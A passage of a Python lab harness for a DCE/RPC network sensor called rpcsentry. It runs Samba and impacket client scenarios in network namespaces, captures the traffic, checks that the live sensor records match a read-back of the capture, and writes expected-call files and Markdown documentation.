                raise RuntimeError("%s: %s timed out:\n%s" % (name, step["argv"], output[-3000:]))
            if p.returncode not in step.get("rc", (0,)):
                raise RuntimeError("%s: %s exited %d:\n%s" % (name, step["argv"], p.returncode,
                                                              output[-3000:]))
            transcripts.append((step, p.returncode, output, time.time() - t0))
            time.sleep(0.3)
        time.sleep(1.0)  # the last packets through the kernel's ring to the sensor
        dump.send_signal(signal.SIGINT)
        sensor.send_signal(signal.SIGINT)
        if dump.wait(timeout=20) != 0:
            raise RuntimeError("tcpdump failed")
        if sensor.wait(timeout=30) != 0:
            raise RuntimeError("rpcsentry -i failed: " + open(os.path.join(wd, "sensor.txt")).read())
        live = load(os.path.join(livedir, "eve.json"))
        files = read_capture(self.bin, pcap, self.sensor_keys(sc))
        a, b = call_keys(live), call_keys(files)
        if a != b:
            raise RuntimeError("%s: live records differ from the capture read back:\n live only: "
                               "%s\n file only: %s" % (name, list((a - b).elements())[:5],
                                                       list((b - a).elements())[:5]))
        if sc.get("files"):
            # a scenario of file uploads: its fileinfo records, live as from the file
            fa, fb = file_keys(live), file_keys(files)
            if fa != fb or not fb:
                raise RuntimeError("%s: files live %s, from the capture %s" % (
                    name, sorted(fa.elements()), sorted(fb.elements())))
        elif not b:
            raise RuntimeError("%s: the sensor reported no call" % name)
        shutil.copy(pcap, os.path.join(out, name + ".pcap"))
        if sc.get("keytab"):
            # the keys that open the capture: the lab's, exported for this run
            kt = os.path.join(out, name + ".keytab")
            shutil.copy(self.keytabs[sc["keytab"]], kt)
            os.chmod(kt, 0o600)
        if self.keep_live:
            shutil.copy(os.path.join(livedir, "eve.json"), os.path.join(out, name + ".live.json"))
        return transcripts, "%d calls, live = file" % sum(b.values()), files


def load(path):
    with open(path) as f:
        return [json.loads(l) for l in f if l.strip()]


def read_capture(binary, pcap, extra=()):
    p = subprocess.run([binary, "-r", pcap, "-q", "-l", "-"] + list(extra), capture_output=True,
                       text=True, check=True)
    return [json.loads(l) for l in p.stdout.splitlines() if l.strip()]


def calls_of(recs):
    out = [r for r in recs if r.get("event_type") == "dcerpc"
           and r.get("dcerpc", {}).get("request") == "REQUEST"]
    return sorted(out, key=lambda r: (r["rpcsentry"].get("request_pcap_cnt", 0), r["pcap_cnt"]))


def file_keys(recs):
    return collections.Counter((r["rpcsentry"]["path"], r["fileinfo"]["size"],
                                r["fileinfo"].get("sha256")) for r in recs
                               if r.get("event_type") == "fileinfo")


def call_keys(recs):
    c = collections.Counter()
    for r in calls_of(recs):
        x = r["rpcsentry"]
        c[(x.get("interface"), x.get("operation"), x.get("class"), r["dcerpc"].get("call_id"),
           x.get("sealed"), json.dumps(x.get("args"), sort_keys=True))] += 1
    return c


def versions():
    def first(cmd):
        try:
            return sh(cmd, check=False).stdout.strip().splitlines()[0]
        except (IndexError, OSError):
            return "?"
    imp = first([PY, "-c", "from impacket import version; print(version.version)"])
    pkg = first(["dpkg-query", "-W", "-f=${Version}", "python3-impacket"])
    return {
        "impacket": "%s (Debian python3-impacket %s)" % (imp, pkg),
        "samba": first(["smbd", "--version"]),
        "net": "Samba %s" % first(["dpkg-query", "-W", "-f=${Version}", "samba-common-bin"]),
        "python": first([PY, "--version"]),
        "tcpdump": first(["tcpdump", "--version"]),
        "kernel": first(["uname", "-r"]),
    }


def pcap_stats(path):
    import struct
    with open(path, "rb") as f:
        data = f.read()
    n, off = 0, 24
    while off + 16 <= len(data):
        incl = struct.unpack_from("<I", data, off + 8)[0]
        off += 16 + incl
        n += 1
    return n, len(data)


def write_docs(sc, out, transcripts, check, files, vers):
    name = sc["name"]
    pcap = os.path.join(out, name + ".pcap")
    npk, size = pcap_stats(pcap)
    expected = sc["calls"]
    doc = {"scenario": name, "title": sc["title"], "server": sc["server"], "auth": sc["auth"],
           "calls": expected}
    if sc.get("keys") == "keytab":
        # the sensor reads these calls only given the keytab beside the capture (--keytab)
        doc["keys"] = {"keytab": name + ".keytab"}
    elif sc.get("keys"):
        # the sensor reads these calls only given the account's key (--ntlm-secrets)
        doc["keys"] = {"ntlm_user": LAB_USER, "password": LAB_PASSWORD}
    with open(os.path.join(out, name + ".expected.json"), "w") as f:
        json.dump(doc, f, indent=1)
        f.write("\n")
    server = ("Samba %s (smbd + samba-dcerpcd, tests/lab/smb.conf.in) on %s" %
              (vers["samba"], SAMBA_IP) if sc["server"] == "samba" else
              "Samba %s as an AD DC of %s (samba-tool domain provision, no DNS) on %s" %
              (vers["samba"], REALM, DC_IP) if sc["server"] == "dc" else
              "Samba %s (smbd + samba-dcerpcd, tests/lab/smb.conf.in with smb encrypt = "
              "required) on %s" % (vers["samba"], SAMBA_ENC_IP) if sc["server"] == "samba-enc"
              else
              "tests/lab/fake_rpc_server.py (impacket's SMB server + the lab's DCE/RPC server) "
              "on %s" % FAKE_IP)
    if sc.get("kdc"):
        server += "; KDC: the Samba AD DC of %s on %s" % (REALM, DC_IP)
    server_ip = {"samba": SAMBA_IP, "dc": DC_IP, "samba-enc": SAMBA_ENC_IP}.get(sc["server"],
                                                                               FAKE_IP)
    lines = ["# %s" % name, "", sc["title"] + ".", "",
             "Made by `tests/lab/run.sh %s` (tests/lab/lab.py): the client at %s in its own "
             "network namespace, the server at %s in another, both on a bridge in a third "
             "(tests/lab/netns.sh; offloads off, so frames are MTU-sized with real checksums); "
             "captured with `tcpdump -i %s -s 0 -w ... tcp` on the bridge port towards the "
             "servers, while `rpcsentry -i %s` ran live on the same port." % (
                 name, CLIENT_IP, server_ip, MONITOR, MONITOR), "",
             "- Server: " + server,
             "- Authentication: " + sc["auth"]]
    if sc.get("kdc"):
        lines += ["- Kerberos on the client: KRB5_CONFIG names the KDC at %s (realm %s), "
                  "KRB5CCNAME a ticket cache of the run; %s resolves in the client's "
                  "/etc/hosts" % (DC_IP, REALM, DC_NAME)]
    if sc.get("keytab"):
        lines += ["- Keys: %s.keytab, exported from the DC of this run (git keeps no file "
                  "mode: the tests copy it to a file of mode 0600)" % name]
    lines += ["- Capture: %d packets, %d bytes" % (npk, size),
             "- Live check: " + check + (
                 " (the sensor given %s.keytab with --keytab)" % name
                 if sc.get("keys") == "keytab" else
                 " (the sensor given the NT hash of %s's password %s with --ntlm-secrets)" % (
                     LAB_USER, LAB_PASSWORD) if sc.get("keys") else ""),
             "- Versions: " + "; ".join("%s %s" % kv for kv in vers.items()), ""]
    if sc.get("note"):
        lines += [sc["note"], ""]
    lines += ["## Commands (run in the client namespace, cwd tests/lab)", ""]
    for step, rc, output, secs in transcripts:
        cmd = " ".join(quote(a.replace("@KRB5CC@", "$KRB5CCNAME").replace("@WORK@", "$WORK"))
                       for a in step["argv"])
        if step.get("env"):
            cmd = " ".join("%s=%s" % (k, quote(v.replace("@WORK@", "$WORK")))
                           for k, v in step["env"].items()) + " " + cmd
        if step.get("stdin"):
            cmd = "printf %s | %s" % (quote(step["stdin"].replace("\n", "\\n")), cmd)
        lines += ["```", cmd, "```", "", "exit status %d, %.1f s; output%s:" % (
            rc, secs, " (cut)" if output.count("\n") > 25 else ""), "", "```"]
        out_lines = [l for l in output.splitlines() if l.strip()]
        lines += out_lines[:25] + ["```", ""]
    lines += ["## Calls the sensor must report (%s.expected.json)" % name, ""]
    for c in expected:
        args = ", ".join("%s=%s" % (k, json.dumps(v)) for k, v in c.get("args", {}).items())
        lines.append("- %s %s (%s%s)%s" % (c["interface"], c["operation"], c["class"],
                                           ", sealed" if c.get("sealed") else "",
                                           ": " + args if args else ""))
    with open(os.path.join(out, name + ".md"), "w") as f:
        f.write("\n".join(lines) + "\n")


def quote(a):
    import shlex
    return shlex.quote(a)


def main():
    ap = argparse.ArgumentParser(description="Regenerates the lab captures.")
    ap.add_argument("--out", default=os.path.join(ROOT, "pcaps", "lab"))
    ap.add_argument("--prefix", default="rslab")
    ap.add_argument("--bin", default=os.environ.get("RPCSENTRY_BIN",
                                                   os.path.join(ROOT, "build", "rpcsentry")))
    ap.add_argument("--list", action="store_true")
    ap.add_argument("--keep-live", action="store_true",
                    help="also write the live sensor's records as OUT/<scenario>.live.json")
    ap.add_argument("scenarios", nargs="*")
    a = ap.parse_args()
    if a.list:
        for n, sc in SCENARIOS.items():
            print("%-32s %s" % (n, sc["title"]))
        return 0
    names = a.scenarios or list(SCENARIOS)
    for n in names:
        if n not in SCENARIOS:
            print("lab: no scenario %s (--list)" % n, file=sys.stderr)
            return 2
    if os.geteuid() != 0:
        print("lab: needs root (network namespaces)", file=sys.stderr)
        return 2
    os.makedirs(a.out, exist_ok=True)
    work = tempfile.mkdtemp(prefix="rpcsentry-lab-")
    lab = Lab(a.prefix, work, os.path.abspath(a.bin))
    lab.keep_live = a.keep_live
    vers = versions()
    failed = []
    t0 = time.time()
    try:
        lab.up(need_dc=any(SCENARIOS[n].get("kdc") for n in names))
        for n in names:
            t = time.time()
            try:
                transcripts, check, files = lab.run(SCENARIOS[n], a.out)
                write_docs(SCENARIOS[n], a.out, transcripts, check, files, vers)
                diff = problems(SCENARIOS[n]["calls"], files)
                print("lab: %-30s %s, %s (%.1f s)" % (
                    n, check, "as expected" if not diff else "%d differences from the "
                    "expectation (tests/e2e/test_lab.py)" % len(diff), time.time() - t), flush=True)
                for d in diff:
                    print("lab:   " + d, flush=True)
            except (RuntimeError, subprocess.CalledProcessError) as e:
                failed.append(n)
                print("lab: %s FAILED: %s" % (n, e), file=sys.stderr, flush=True)
    except (RuntimeError, subprocess.CalledProcessError) as e:
        print("lab: setup failed: %s %s" % (e, getattr(e, "stderr", "") or ""), file=sys.stderr)
        failed.append("setup")
    finally:
        lab.down()
        if failed or os.environ.get("RPCSENTRY_LAB_KEEP"):
            print("lab: work directory kept: %s" % work, file=sys.stderr)
        else:
            shutil.rmtree(work, ignore_errors=True)
    print("lab: %d scenarios, %d failed, %.0f s" % (len(names), len(failed), time.time() - t0))
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
